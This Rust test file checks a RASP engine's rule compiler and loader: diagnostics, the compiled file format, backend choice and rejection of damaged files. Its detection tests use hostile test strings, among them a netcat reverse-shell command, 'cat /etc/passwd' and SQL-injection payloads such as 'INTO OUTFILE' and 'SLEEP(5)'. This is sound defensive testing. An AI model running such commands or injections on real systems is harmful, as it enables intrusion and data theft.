//! Rule sources → compiled file → loaded rule set: diagnostics with their exact text and line,
//! the file round trip, and every way a damaged file is refused.
//!
//! Fixtures are in `tests/fixtures/rules/` (see the README there); the repository's own
//! `rules/` directory is compiled too.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use rasp_engine::rules::file::{self, FileIdentity, RuleFile};
use rasp_engine::rules::{
    compile_dir, BackendChoice, BackendKind, ExampleSink, RuleSet, Scan, Severity, SinkKind,
    Target, When,
};
use rasp_engine::Mode;

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/rules")
        .join(name)
}

/// The diagnostics of compiling `dir`, displayed, with the directory prefix left out.
fn diagnostics(dir: &Path) -> Vec<String> {
    let diags = compile_dir(dir).expect_err("the fixture must not compile");
    let prefix = format!("{}/", dir.display());
    diags
        .iter()
        .map(|d| d.to_string().replace(&prefix, ""))
        .collect()
}

fn hyperscan_usable() -> bool {
    rasp_hyperscan::is_linked() && rasp_hyperscan::platform_supported()
}

fn good_bytes() -> Vec<u8> {
    compile_dir(&fixture("good")).expect("good fixture").bytes
}

fn rules_hit(set: &RuleSet, t: Target, haystack: &str) -> BTreeSet<String> {
    let mut ids = BTreeSet::new();
    set.scan(t, haystack.as_bytes(), &mut |r| {
        ids.insert(set.rules()[r].id.clone());
    });
    ids
}

fn ids(list: &[&str]) -> BTreeSet<String> {
    list.iter().map(|s| s.to_string()).collect()
}

#[test]
fn good_fixture_compiles_and_loads_with_every_field() {
    let compiled = compile_dir(&fixture("good")).unwrap();
    assert_eq!(compiled.rules, 5);
    // outfile 2 + etc_passwd 2 in cmd and 2 in path + netcat 1 + sleep signature 1 + gadget 1.
    assert_eq!(compiled.patterns, 9);
    assert!(
        compiled.id.starts_with("fixture-good@1.0.0+"),
        "{}",
        compiled.id
    );
    assert_eq!(compiled.has_hyperscan, rasp_hyperscan::is_linked());

    let set = RuleSet::load(&compiled.bytes, BackendChoice::Portable).unwrap();
    assert_eq!(set.id(), compiled.id);
    assert_eq!((set.name(), set.version()), ("fixture-good", "1.0.0"));
    assert_eq!(set.backend(), BackendKind::Portable);
    // Rules in file-name order: class.toml, cmd.toml, shared.toml, sql.toml.
    let order: Vec<&str> = set.rules().iter().map(|r| r.id.as_str()).collect();
    assert_eq!(
        order,
        [
            "fixture.class.gadget",
            "fixture.cmd.netcat_exec",
            "fixture.shared.etc_passwd",
            "fixture.sql.outfile",
            "fixture.sql.sleep_signature"
        ]
    );
    // A database per kind some rule names; none for the kinds no rule of the fixture names.
    let unnamed = [SinkKind::Url, SinkKind::Jndi, SinkKind::Expr, SinkKind::Xml];
    for t in Target::ALL {
        let named = !matches!(t, Target::Sink(k) if unnamed.contains(&k));
        assert_eq!(set.has_target(t), named, "{t}");
    }
    assert_eq!(set.pattern_count(Target::Sink(SinkKind::Sql)), 2);
    assert_eq!(set.pattern_count(Target::Sink(SinkKind::Cmd)), 3);
    assert_eq!(set.pattern_count(Target::Sink(SinkKind::Path)), 2);
    assert_eq!(set.pattern_count(Target::Sink(SinkKind::Class)), 1);
    assert_eq!(set.pattern_count(Target::Input), 1);

    let outfile = set.rule_index("fixture.sql.outfile").unwrap();
    let rule = &set.rules()[outfile];
    assert_eq!(rule.category, "sqli");
    assert_eq!(rule.scan, Scan::Sink);
    assert_eq!(rule.sinks, [SinkKind::Sql]);
    assert_eq!(rule.when, When::InputOverlaps);
    assert_eq!(rule.severity, Severity::Critical);
    assert_eq!(rule.mode, Mode::Block);
    assert_eq!((rule.file.as_str(), rule.line), ("sql.toml", 3));
    assert_eq!(rule.patterns[0].flags.letters(), "i");
    assert_eq!(rule.patterns[1].flags.letters(), "is");
    assert_eq!(rule.matches[0].dialect.as_deref(), Some("mysql"));
    assert_eq!(rule.matches[0].line, 18);
    assert_eq!(
        rule.matches[0].query_parameters(),
        [("q".to_string(), "1 INTO OUTFILE '/tmp/x'")]
    );
    assert_eq!(rule.passes[0].inputs, ["1"]);

    let sleep = &set.rules()[set.rule_index("fixture.sql.sleep_signature").unwrap()];
    assert_eq!(sleep.scan, Scan::Input);
    assert_eq!(sleep.mode, Mode::Monitor);
    assert_eq!(
        sleep.matches[0].query_parameters(),
        [
            ("q1".to_string(), "1 AND SLEEP(5)"),
            ("q2".to_string(), "x")
        ]
    );
    let shared = &set.rules()[set.rule_index("fixture.shared.etc_passwd").unwrap()];
    assert_eq!(shared.mode, Mode::Off);
    assert_eq!(shared.when, When::InputPresent);
    assert_eq!(shared.sinks, [SinkKind::Cmd, SinkKind::Path]);
    assert_eq!(shared.patterns[1].flags.letters(), "m");
    assert_eq!(
        shared.matches[0].sink,
        ExampleSink::Argv(vec!["cat".into(), "/etc/passwd".into()])
    );
    assert_eq!(shared.passes[0].op.as_deref(), Some("read"));
    assert_eq!(set.rule_index("sqli.union"), None);
}

#[test]
fn a_loaded_set_scans_every_target_and_finds_spans() {
    let bytes = good_bytes();
    for choice in [BackendChoice::Portable, BackendChoice::Auto] {
        let set = RuleSet::load(&bytes, choice).unwrap();
        let sql = Target::Sink(SinkKind::Sql);
        let cmd = Target::Sink(SinkKind::Cmd);
        let path = Target::Sink(SinkKind::Path);
        assert_eq!(
            rules_hit(
                &set,
                sql,
                "SELECT a FROM t WHERE id = 1 into  OutFile '/tmp/x'"
            ),
            ids(&["fixture.sql.outfile"])
        );
        assert_eq!(
            rules_hit(&set, sql, "SELECT a FROM t WHERE note = 'outfile'"),
            ids(&[])
        );
        // Per-pattern flags: `s` lets `.` cross the newline for the second pattern only.
        assert_eq!(
            rules_hit(&set, sql, "select a\nfrom t into outfile"),
            ids(&["fixture.sql.outfile"])
        );
        assert_eq!(
            rules_hit(&set, cmd, "nc -e /bin/sh 10.0.0.1 4444"),
            ids(&["fixture.cmd.netcat_exec"])
        );
        assert_eq!(rules_hit(&set, cmd, "nc -z example.com 443"), ids(&[]));
        // A rule on two sinks is in both databases.
        assert_eq!(
            rules_hit(&set, cmd, "cat /etc/passwd"),
            ids(&["fixture.shared.etc_passwd"])
        );
        assert_eq!(
            rules_hit(&set, path, "/etc/passwd"),
            ids(&["fixture.shared.etc_passwd"])
        );
        assert_eq!(rules_hit(&set, path, "/etc/passwd.bak"), ids(&[]));
        // `m`: `^` after a newline.
        assert_eq!(
            rules_hit(&set, path, "x\nroot:x:0"),
            ids(&["fixture.shared.etc_passwd"])
        );
        assert_eq!(rules_hit(&set, path, "x root:x:0"), ids(&[]));
        assert_eq!(
            rules_hit(&set, Target::Input, "1 AND SLEEP ( 5 )"),
            ids(&["fixture.sql.sleep_signature"])
        );
        assert_eq!(rules_hit(&set, Target::Input, "sleepy(5)"), ids(&[]));

        let outfile = set.rule_index("fixture.sql.outfile").unwrap();
        assert_eq!(set.spans(outfile, b"x into outfile y"), vec![2..14]);
        assert_eq!(
            set.spans(outfile, b"select 1 into outfile"),
            vec![9..21, 0..21],
            "each pattern's spans, pattern by pattern"
        );
        assert!(set.spans(outfile, b"select 1").is_empty());
        assert!(set.spans(999, b"into outfile").is_empty());
        assert_eq!(set.scan_fallbacks(), 0);
        assert_eq!(set.scan_failures(), 0);
    }
}

#[test]
fn backend_choice_and_generations() {
    let bytes = good_bytes();
    let a = RuleSet::load(&bytes, BackendChoice::Auto).unwrap();
    let b = RuleSet::load(&bytes, BackendChoice::Portable).unwrap();
    assert_ne!(a.generation(), b.generation());
    assert_ne!(a.generation(), 0);
    assert_eq!(b.backend(), BackendKind::Portable);
    assert_eq!(b.portable_reason(), None);
    if hyperscan_usable() {
        assert_eq!(a.backend(), BackendKind::Hyperscan);
        assert_eq!(a.portable_reason(), None);
        let hs = RuleSet::load(&bytes, BackendChoice::Hyperscan).unwrap();
        assert_eq!(hs.backend(), BackendKind::Hyperscan);
    } else {
        println!("Hyperscan is not usable here: only the portable backend is checked");
        assert_eq!(a.backend(), BackendKind::Portable);
        assert!(a.portable_reason().is_some());
        let err = RuleSet::load(&bytes, BackendChoice::Hyperscan).unwrap_err();
        assert!(
            err.to_string().starts_with("rules.backend=hyperscan, but "),
            "{err}"
        );
    }
}

#[test]
fn the_empty_set_has_no_rules_and_scans_nothing() {
    let empty = RuleSet::empty();
    assert_eq!(empty.id(), "none");
    assert!(empty.rules().is_empty());
    for t in Target::ALL {
        assert!(!empty.has_target(t));
        let mut hits = 0;
        empty.scan(t, b"select 1 into outfile", &mut |_| hits += 1);
        assert_eq!(hits, 0);
    }
    assert_ne!(empty.generation(), RuleSet::empty().generation());
}

#[test]
fn compiling_is_deterministic() {
    let a = compile_dir(&fixture("good")).unwrap();
    let b = compile_dir(&fixture("good")).unwrap();
    assert_eq!(a.id, b.id);
    assert!(
        a.bytes == b.bytes,
        "two compilations of the same sources differ"
    );
}

#[test]
fn every_field_problem_is_reported_with_its_line() {
    let dir = fixture("bad");
    let expected = [
        "a.toml:1: rule bad.fields: missing field `severity` in a rule",
        "a.toml:7: rule bad.fields: unknown field `severty` in a rule; expected one of: id, category, scan, sinks, when, severity, mode, message, flags, patterns, match, pass",
        "a.toml:14: rule bad.fields: unknown field `sinkk` in a match example; expected one of: sink, argv, input, inputs, dialect, op",
        "a.toml:25: rule bad.type: `severity`: invalid type: integer `3`, expected a string",
        "a.toml:32: rule bad.values: `category` must be one of sqli, cmdi, path, deser, ssrf, jndi, expr, xxe, not \"xss\"",
        "a.toml:33: rule bad.values: `scan` must be one of sink, input, not \"both\"",
        "a.toml:34: rule bad.values: sink `sql` is listed twice in `sinks`",
        "a.toml:34: rule bad.values: `sinks` must be one of sql, cmd, path, class, url, jndi, expr, xml, not \"ldap\"",
        "a.toml:35: rule bad.values: `when` must be one of always, input-present, input-overlaps, not \"sometimes\"",
        "a.toml:36: rule bad.values: `severity` must be one of critical, high, medium, low, not \"urgent\"",
        "a.toml:37: rule bad.values: `mode` must be one of block, monitor, off, not \"warn\"",
        "a.toml:39: rule bad.values: flags \"ix\": unknown flag 'x' (use letters from \"ism\")",
        "a.toml:48: rule Bad-Id: needs at least one [[rule.match]] example",
        "a.toml:48: rule Bad-Id: needs at least one [[rule.pass]] example",
        "a.toml:49: rule Bad-Id: rule id \"Bad-Id\" is not valid: use lower-case segments [a-z0-9_]+ joined by '.', at least two",
        "a.toml:52: rule Bad-Id: `sinks` is empty; name at least one of sql, cmd, path, class, url, jndi, expr, xml",
        "a.toml:56: rule Bad-Id: `message` is empty",
        "a.toml:57: rule Bad-Id: `patterns` is empty; give at least one",
        "a.toml:60: rule sqli.union: rule id sqli.union is a built-in detector id; choose another",
        "a.toml:64: rule sqli.union: `when` is only for scan = \"sink\" rules; an input rule fires on its own signature match",
        "a.toml:77: rule bad.no_when: scan = \"sink\" needs `when` (always, input-present or input-overlaps)",
        "a.toml:85: rule bad.no_when: pattern 1: flags \"q\": unknown flag 'q' (use letters from \"ism\")",
        "a.toml:104: rule bad.dup: match example has neither `sink` nor `argv`",
        "a.toml:104: rule bad.dup: match example needs `input` or `inputs`: this rule fires only on request input",
        "a.toml:107: rule bad.dup: match example has both `sink` and `argv`; give one",
        "a.toml:112: rule bad.dup: match example has `argv`, which is for rules with cmd sinks",
        "a.toml:112: rule bad.dup: match example has both `input` and `inputs`; give one",
        "a.toml:117: rule bad.dup: match example has unknown dialect \"informix\" (known: generic, mysql, postgresql, oracle, sqlserver, sqlite, h2, hsqldb, db2, derby)",
        "a.toml:117: rule bad.dup: match example has `op`, which is for rules with path sinks",
        "a.toml:117: rule bad.dup: match example has `op` \"chmod\"; use read, write, delete or list",
        "a.toml:123: rule bad.dup: match example needs `input` or `inputs`: this rule fires only on request input",
        "b.toml:1: unknown top-level key `title`: a rules file holds only [[rule]] tables",
        // The message names the first file by its full path; `diagnostics` shortens it too.
        "b.toml:3: rule bad.dup: duplicate rule id bad.dup: first defined at a.toml:93",
        "b.toml:12: rule bad.dup: unknown field `flag` in a pattern table; expected one of: regex, flags",
        "b.toml:12: rule bad.dup: missing field `regex` in a pattern table",
        "b.toml:14: rule bad.cmd_examples: needs at least one [[rule.pass]] example",
        "b.toml:25: rule bad.cmd_examples: match example has an empty `argv`",
        "b.toml:25: rule bad.cmd_examples: match example has `dialect`, which is for rules with sql sinks",
        "b.toml:33: rule bad.class_input: sink `class` takes only scan = \"sink\", when = \"always\" rules: a class check reads no request input",
        "c.toml:1: `rule` must be an array of tables: write each rule as [[rule]]",
        "ruleset.toml:1: `name` \"bad name!\" is not valid: use letters, digits, '.', '_' and '-'",
    ];
    assert_eq!(diagnostics(&dir), expected);
}

#[test]
fn every_forbidden_pattern_is_named() {
    let mut expected = vec![
        "p.toml:12: rule pat.forbidden: pattern 2: `$` without the m flag also matches before a final newline in Hyperscan; write \\z, or set the m flag",
        "p.toml:13: rule pat.forbidden: pattern 3: `\\Q...\\E` quoting is not supported; escape each character instead",
        "p.toml:14: rule pat.forbidden: pattern 4: `\\h` and `\\H` are not supported; write [ \\t] or [^ \\t]",
        "p.toml:15: rule pat.forbidden: pattern 5: octal escapes are not supported; write \\xNN",
        "p.toml:16: rule pat.forbidden: pattern 6: backreferences (and octal escapes) are not supported",
        "p.toml:17: rule pat.forbidden: pattern 7: lookaround `(?=` is not supported",
        "p.toml:18: rule pat.forbidden: pattern 8: lookaround `(?<!` is not supported",
        "p.toml:19: rule pat.forbidden: pattern 9: atomic groups `(?>...)` are not supported",
        "p.toml:20: rule pat.forbidden: pattern 10: possessive quantifier `++` is not supported; drop the `+`",
        "p.toml:21: rule pat.forbidden: pattern 11: inline flags `(?i)` are not allowed; use the rule's or the pattern's `flags`",
        "p.toml:22: rule pat.forbidden: pattern 12: inline flags `(?s:` are not allowed; use the rule's or the pattern's `flags`",
        "p.toml:23: rule pat.forbidden: pattern 13: Unicode classes `\\p{..}` are not supported (patterns match bytes); use an ASCII class such as [[:alpha:]]",
        "p.toml:24: rule pat.forbidden: pattern 14: Unicode classes `\\p{..}` are not supported (patterns match bytes); use an ASCII class such as [[:alpha:]]",
        "p.toml:25: rule pat.forbidden: pattern 15: matches the empty string; every pattern must match at least one byte",
        "p.toml:26: rule pat.forbidden: pattern 16: contains the non-ASCII character 'é'; patterns match bytes, so write its UTF-8 bytes as \\xNN escapes",
        "p.toml:27: rule pat.forbidden: pattern 17: `\\<` is a word-edge assertion here but not in Hyperscan; write \\b",
        "p.toml:28: rule pat.forbidden: pattern 18: `\\v` is a vertical tab here but any vertical space in Hyperscan; write \\x0b",
        "p.toml:29: rule pat.forbidden: pattern 19: character class operation `&&` is not supported (Hyperscan reads it as literal characters)",
        "p.toml:30: rule pat.forbidden: pattern 20: nested character class `[bc]` is not supported (Hyperscan reads `[` inside a class as a literal); escape it as \\[",
        "p.toml:31: rule pat.forbidden: pattern 21: the escape `\\u0041` is not supported; write bytes as \\xNN",
        "p.toml:32: rule pat.forbidden: pattern 22: regex syntax error at column 2: unclosed group",
        "p.toml:33: rule pat.forbidden: pattern 23: can never match anything",
        "p.toml:53: rule pat.engines: pattern 1 makes the portable DFA exceed 8 MiB; simplify it (bounded repeats and nested alternations are the usual cause)",
    ];
    if rasp_hyperscan::is_linked() {
        expected.push(
            "p.toml:54: rule pat.engines: pattern 2: rejected by Hyperscan: Embedded start anchors not supported.",
        );
    } else {
        println!("Hyperscan is not linked: its own rejection is not checked");
    }
    assert_eq!(diagnostics(&fixture("patterns")), expected);
}

#[test]
fn a_syntax_error_ends_the_file_and_a_missing_ruleset_is_named() {
    assert_eq!(
        diagnostics(&fixture("syntax")),
        [
            "broken.toml:1: TOML syntax error: unclosed array table, expected `]`",
            "ruleset.toml: missing ruleset.toml: it names the rule set (name = \"...\", version = \"...\")",
        ]
    );
}

#[test]
fn a_missing_directory_is_one_diagnostic() {
    let dir = fixture("does-not-exist");
    let diags = compile_dir(&dir).unwrap_err();
    assert_eq!(diags.len(), 1);
    assert_eq!(
        diags[0].to_string(),
        format!(
            "{}: cannot read the rules directory: No such file or directory (os error 2)",
            dir.display()
        )
    );
}

#[test]
fn the_repository_rules_compile_and_load_with_both_backends() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules");
    if !dir.join("ruleset.toml").is_file() {
        println!("NOTICE: {} has no ruleset.toml yet; skipped", dir.display());
        return;
    }
    let compiled = match compile_dir(&dir) {
        Ok(c) => c,
        Err(diags) => {
            let lines: Vec<String> = diags.iter().map(ToString::to_string).collect();
            panic!(
                "the repository's rules do not compile:\n{}",
                lines.join("\n")
            );
        }
    };
    println!(
        "rules/: {} rules, {} patterns, file {} bytes ({} DFAs, {} bytes in memory); \
         Hyperscan {:.0} ms, DFA {:.0} ms",
        compiled.rules,
        compiled.patterns,
        compiled.bytes.len(),
        compiled.dfa_groups,
        compiled.dfa_bytes,
        compiled.hyperscan_ms,
        compiled.dfa_ms
    );
    assert!(compiled.rules > 0);
    let portable = RuleSet::load(&compiled.bytes, BackendChoice::Portable).unwrap();
    assert_eq!(portable.rules().len(), compiled.rules);
    let auto = RuleSet::load(&compiled.bytes, BackendChoice::Auto).unwrap();
    assert_eq!(auto.id(), compiled.id);
    if hyperscan_usable() {
        assert_eq!(auto.backend(), BackendKind::Hyperscan);
    }
}

// ---- damaged files -------------------------------------------------------------------------

fn load_err(bytes: &[u8]) -> String {
    RuleSet::load(bytes, BackendChoice::Portable)
        .expect_err("a damaged file must not load")
        .to_string()
}

/// Rewrites the good file with its sections changed by `edit` and a valid checksum.
fn rewritten(rules: usize, edit: impl FnOnce(&mut Vec<(String, Vec<u8>)>)) -> Vec<u8> {
    let bytes = good_bytes();
    let file = RuleFile::parse(&bytes).unwrap();
    let mut sections: Vec<(String, Vec<u8>)> = file
        .section_names()
        .map(|n| (n.to_string(), file.section(n).unwrap().to_vec()))
        .collect();
    edit(&mut sections);
    let has_hs = sections.iter().any(|(n, _)| n.starts_with("hs."));
    let identity = FileIdentity {
        name: &file.header.name,
        version: &file.header.version,
        rules,
        hyperscan: has_hs.then_some("test"),
    };
    file::write(&identity, &sections).unwrap().0
}

#[test]
fn a_damaged_preamble_is_named() {
    let good = good_bytes();
    assert_eq!(load_err(b"RASP"), "not a rasp rule file (only 4 bytes)");
    assert_eq!(
        load_err(b"RASPRULS\x01\x00"),
        "not a rasp rule file (only 10 bytes)"
    );
    let mut bad = good.clone();
    bad[0] = b'X';
    assert_eq!(load_err(&bad), "not a rasp rule file (bad magic)");
    assert_eq!(
        load_err(b"PK\x03\x04 a zip file, not rules"),
        "not a rasp rule file (bad magic)"
    );
    let mut bad = good.clone();
    bad[8..12].copy_from_slice(&3u32.to_le_bytes());
    assert_eq!(
        load_err(&bad),
        "unsupported rule file format version 3 (this engine reads versions 1 to 2)"
    );
    let header_len = u32::from_le_bytes(good[12..16].try_into().unwrap());
    assert_eq!(
        load_err(&good[..20]),
        format!("truncated rule file: the header needs {header_len} bytes but only 4 follow the preamble")
    );
    let mut bad = good.clone();
    bad[16] = b'x';
    assert_eq!(
        load_err(&bad),
        "bad rule file header: expected value at line 1 column 1"
    );
}

// ---- the Hyperscan part --------------------------------------------------------------------

/// The file's preamble and header length, and its header.
fn framing(bytes: &[u8]) -> (usize, file::Header) {
    let header_len = u32::from_le_bytes(bytes[12..16].try_into().unwrap()) as usize;
    (16 + header_len, RuleFile::parse(bytes).unwrap().header)
}

/// A rule file of this format `version` with this header text and body (the preamble built by hand,
/// as an edited or older file would have it).
fn framed(version: u32, header: &[u8], body: &[u8]) -> Vec<u8> {
    let mut bytes = b"RASPRULS".to_vec();
    bytes.extend_from_slice(&version.to_le_bytes());
    bytes.extend_from_slice(&(header.len() as u32).to_le_bytes());
    bytes.extend_from_slice(header);
    bytes.extend_from_slice(body);
    bytes
}

/// The load error for a body (or part) that does not hash to what the header says.
fn checksum_mismatch(expected: &str, body: &[u8]) -> String {
    format!(
        "checksum mismatch: the header says {expected} but the body hashes to {} (the file is corrupt or was edited)",
        file::checksum(body)
    )
}

#[test]
fn the_writer_puts_the_portable_sections_last_and_names_the_part_before_them() {
    let good = good_bytes();
    let (body_start, header) = framing(&good);
    assert_eq!(header.format, 2);
    let names: Vec<&str> = header.sections.iter().map(|s| s.name.as_str()).collect();
    let first_dfa = names.iter().position(|n| n.starts_with("dfa.")).unwrap();
    assert!(
        names[..first_dfa].iter().all(|n| !n.starts_with("dfa.")),
        "{names:?}"
    );
    assert!(
        names[first_dfa..].iter().all(|n| n.starts_with("dfa.")),
        "{names:?}"
    );
    assert!(
        names[..first_dfa].iter().any(|n| n.starts_with("hs.")),
        "{names:?}"
    );
    let part = header
        .hyperscan_part
        .expect("a file with hs sections names its part");
    assert_eq!(part.len, header.sections[first_dfa].offset);
    let body = &good[body_start..];
    assert_eq!(part.checksum, file::checksum(&body[..part.len as usize]));
    // The agent reads `len` from the header's text, without a JSON parser.
    let text = std::str::from_utf8(&good[16..body_start]).unwrap();
    assert!(
        text.contains(&format!("\"hyperscan_part\":{{\"len\":{},", part.len)),
        "{text}"
    );
    // A file without hs sections has no part: it is all portable.
    let portable_only = rewritten(5, |s| s.retain(|(n, _)| !n.starts_with("hs.")));
    assert_eq!(framing(&portable_only).1.hyperscan_part, None);
}

#[test]
fn the_hyperscan_part_alone_loads_with_hyperscan_and_asks_for_the_whole_file_otherwise() {
    let good = good_bytes();
    let (body_start, header) = framing(&good);
    let part = header.hyperscan_part.clone().unwrap();
    let cut = &good[..body_start + part.len as usize];
    let file = RuleFile::parse(cut).unwrap();
    assert!(file.is_partial());
    assert!(!RuleFile::parse(&good).unwrap().is_partial());
    assert!(file.section("meta").is_some());
    assert!(file.has_section("dfa.input.0"));
    assert_eq!(file.section("dfa.input.0"), None);
    let whole = RuleSet::load(&good, BackendChoice::Auto).unwrap();
    for choice in [BackendChoice::Portable, BackendChoice::Auto] {
        match RuleSet::load(cut, choice) {
            Ok(set) => {
                assert!(hyperscan_usable() && choice == BackendChoice::Auto);
                assert_eq!(set.backend(), BackendKind::Hyperscan);
                assert_eq!(set.id(), whole.id());
                assert_eq!(
                    rules_hit(
                        &set,
                        Target::Sink(SinkKind::Sql),
                        "select 1 into outfile '/tmp/x'"
                    ),
                    rules_hit(
                        &whole,
                        Target::Sink(SinkKind::Sql),
                        "select 1 into outfile '/tmp/x'"
                    )
                );
            }
            Err(e) => {
                let e = e.to_string();
                assert!(
                    e.starts_with(&format!(
                        "{}: the portable backend scans with the dfa sections",
                        file::WHOLE_FILE_NEEDED
                    )),
                    "{e}"
                );
                if choice == BackendChoice::Portable {
                    assert!(e.ends_with("(rules.backend=portable)"), "{e}");
                } else {
                    assert!(!hyperscan_usable(), "{e}");
                }
            }
        }
    }
    if hyperscan_usable() {
        assert!(RuleSet::load(cut, BackendChoice::Hyperscan).is_ok());
    }
}

#[test]
fn a_damaged_or_miscut_hyperscan_part_is_named() {
    let good = good_bytes();
    let (body_start, header) = framing(&good);
    let part = header.hyperscan_part.clone().unwrap();
    let part_end = body_start + part.len as usize;
    let mut bad = good[..part_end].to_vec();
    bad[part_end - 1] ^= 0x55;
    assert_eq!(
        load_err(&bad),
        checksum_mismatch(&part.checksum, &bad[body_start..])
    );
    // The same byte changed in the whole file fails the whole body's checksum first.
    let mut bad = good.clone();
    bad[part_end - 1] ^= 0x55;
    assert!(
        load_err(&bad).contains(&header.checksum),
        "{}",
        load_err(&bad)
    );
    // Cut anywhere else: truncated, as before.
    let err = load_err(&good[..part_end + 10]);
    assert!(
        err.starts_with("truncated or corrupt rule file: section dfa."),
        "{err}"
    );
    // A header whose part does not end where the portable sections begin.
    let text = std::str::from_utf8(&good[16..body_start]).unwrap();
    let lied = text.replacen(
        &format!("\"hyperscan_part\":{{\"len\":{},", part.len),
        &format!("\"hyperscan_part\":{{\"len\":{},", part.len - 1),
        1,
    );
    let err = load_err(&framed(2, lied.as_bytes(), &good[body_start..]));
    assert!(
        err.starts_with("corrupt rule file: section ")
            && err.contains("lies outside the hyperscan part"),
        "{err}"
    );
}

#[test]
fn a_version_1_file_still_loads() {
    let good = good_bytes();
    let (body_start, header) = framing(&good);
    let mut v1 = header.clone();
    v1.format = 1;
    v1.hyperscan_part = None;
    let bytes = framed(1, &serde_json::to_vec(&v1).unwrap(), &good[body_start..]);
    let set = RuleSet::load(&bytes, BackendChoice::Portable).unwrap();
    assert_eq!(set.id(), header.id);
    // A part is a version 2 field.
    let mut with_part = header;
    with_part.format = 1;
    let bytes = framed(
        1,
        &serde_json::to_vec(&with_part).unwrap(),
        &good[body_start..],
    );
    assert_eq!(
        load_err(&bytes),
        "bad rule file header: hyperscan_part in a version 1 file"
    );
}

#[test]
fn a_truncated_or_altered_body_is_named() {
    let good = good_bytes();
    let header = RuleFile::parse(&good).unwrap().header;
    let body_len = good.len() - 16 - u32::from_le_bytes(good[12..16].try_into().unwrap()) as usize;
    let last = header.sections.last().unwrap();
    assert_eq!(
        load_err(&good[..good.len() - 10]),
        format!(
            "truncated or corrupt rule file: section {} (offset {}, {} bytes) ends past the end of the body ({} bytes)",
            last.name,
            last.offset,
            last.len,
            body_len - 10
        )
    );
    let mut bad = good.clone();
    let end = bad.len() - 1;
    bad[end] ^= 0x55;
    let body_start = good.len() - body_len;
    assert_eq!(
        load_err(&bad),
        checksum_mismatch(&header.checksum, &bad[body_start..])
    );
    let mut longer = good.clone();
    longer.extend_from_slice(b"junk");
    assert_eq!(
        load_err(&longer),
        "corrupt rule file: 4 bytes follow the last section"
    );
}

#[test]
fn a_file_inconsistent_with_itself_is_named() {
    assert_eq!(
        load_err(&rewritten(6, |_| {})),
        "inconsistent rule file: the header says 6 rules, the meta section has 5"
    );
    let bogus = rewritten(5, |s| s.push(("dfa.bogus.0".into(), vec![0; 8])));
    assert_eq!(
        load_err(&bogus),
        "inconsistent rule file: unexpected section dfa.bogus.0"
    );
    let gap = rewritten(5, |s| s.push(("dfa.input.2".into(), vec![0; 8])));
    assert_eq!(
        load_err(&gap),
        "inconsistent rule file: the dfa.input sections are not numbered 0 to 1"
    );
    let missing = rewritten(5, |s| s.retain(|(n, _)| n != "dfa.sink.cmd.0"));
    assert_eq!(
        load_err(&missing),
        "inconsistent rule file: section dfa.sink.cmd.0 is missing"
    );
    let no_meta = rewritten(5, |s| s.retain(|(n, _)| n != "meta"));
    assert_eq!(
        load_err(&no_meta),
        "inconsistent rule file: section meta is missing"
    );
    let bad_meta = rewritten(5, |s| s[0].1 = b"{\"rules\": 3}".to_vec());
    assert!(
        load_err(&bad_meta).starts_with("bad meta section: invalid type: integer `3`"),
        "{}",
        load_err(&bad_meta)
    );
    let cut_dfa = rewritten(5, |s| {
        let (_, bytes) = s.iter_mut().find(|(n, _)| n == "dfa.input.0").unwrap();
        bytes.truncate(bytes.len() - 4);
    });
    let err = load_err(&cut_dfa);
    assert!(
        err.starts_with("section dfa.input.0 does not load: "),
        "{err}"
    );
    // A map that points a pattern at the wrong rule.
    let swapped = rewritten(5, |s| {
        let meta = String::from_utf8(s[0].1.clone()).unwrap();
        s[0].1 = meta
            .replacen("\"input\":[[4,0]]", "\"input\":[[3,0]]", 1)
            .into_bytes();
    });
    assert_eq!(
        load_err(&swapped),
        "inconsistent rule file: the meta section's pattern map of input does not match its rules"
    );
}

#[test]
fn hyperscan_without_its_sections_is_refused_or_skipped() {
    let portable_only = rewritten(5, |s| s.retain(|(n, _)| !n.starts_with("hs.")));
    let auto = RuleSet::load(&portable_only, BackendChoice::Auto).unwrap();
    assert_eq!(auto.backend(), BackendKind::Portable);
    let err = RuleSet::load(&portable_only, BackendChoice::Hyperscan)
        .unwrap_err()
        .to_string();
    if hyperscan_usable() {
        assert_eq!(
            auto.portable_reason(),
            Some("the rule file has no section hs.sink.sql (it was compiled without Hyperscan)")
        );
        assert_eq!(
            err,
            "rules.backend=hyperscan, but the rule file has no section hs.sink.sql (it was compiled without Hyperscan)"
        );
        let broken_hs = rewritten(5, |s| {
            let (_, bytes) = s.iter_mut().find(|(n, _)| n == "hs.input").unwrap();
            bytes.truncate(16);
        });
        let err = RuleSet::load(&broken_hs, BackendChoice::Hyperscan)
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with("rules.backend=hyperscan, but section hs.input does not load: "),
            "{err}"
        );
        let fell_back = RuleSet::load(&broken_hs, BackendChoice::Auto).unwrap();
        assert_eq!(fell_back.backend(), BackendKind::Portable);
    } else {
        assert_eq!(
            err,
            "rules.backend=hyperscan, but Hyperscan is not built into this library"
        );
    }
}

#[test]
fn hyperscan_loads_no_dfas_but_still_rejects_a_damaged_dfa_section_at_load() {
    if !hyperscan_usable() {
        return;
    }
    let good = good_bytes();
    let set = RuleSet::load(&good, BackendChoice::Hyperscan).unwrap();
    assert_eq!(set.backend(), BackendKind::Hyperscan);
    assert!(
        set.scan_patterns_with(Target::Input, BackendKind::Portable, b"x", &mut |_| {})
            .is_err(),
        "with Hyperscan the DFAs are not deserialized"
    );
    // One flipped byte inside a DFA section: the body's SHA-256 rejects it before any section
    // is read, so not deserializing the DFAs does not move the error to the first request.
    let file = RuleFile::parse(&good).unwrap();
    let entry = file
        .header
        .sections
        .iter()
        .find(|s| s.name == "dfa.input.0")
        .unwrap();
    let body_start = 16 + u32::from_le_bytes(good[12..16].try_into().unwrap()) as usize;
    let mut bad = good.clone();
    bad[body_start + entry.offset as usize + entry.len as usize / 2] ^= 0x40;
    let err = RuleSet::load(&bad, BackendChoice::Hyperscan)
        .unwrap_err()
        .to_string();
    assert!(err.starts_with("checksum mismatch: "), "{err}");
    // A gap in the DFA numbering is refused with Hyperscan too.
    let gap = rewritten(5, |s| s.push(("dfa.input.2".into(), vec![0; 8])));
    assert_eq!(
        RuleSet::load(&gap, BackendChoice::Hyperscan)
            .unwrap_err()
            .to_string(),
        "inconsistent rule file: the dfa.input sections are not numbered 0 to 1"
    );
}
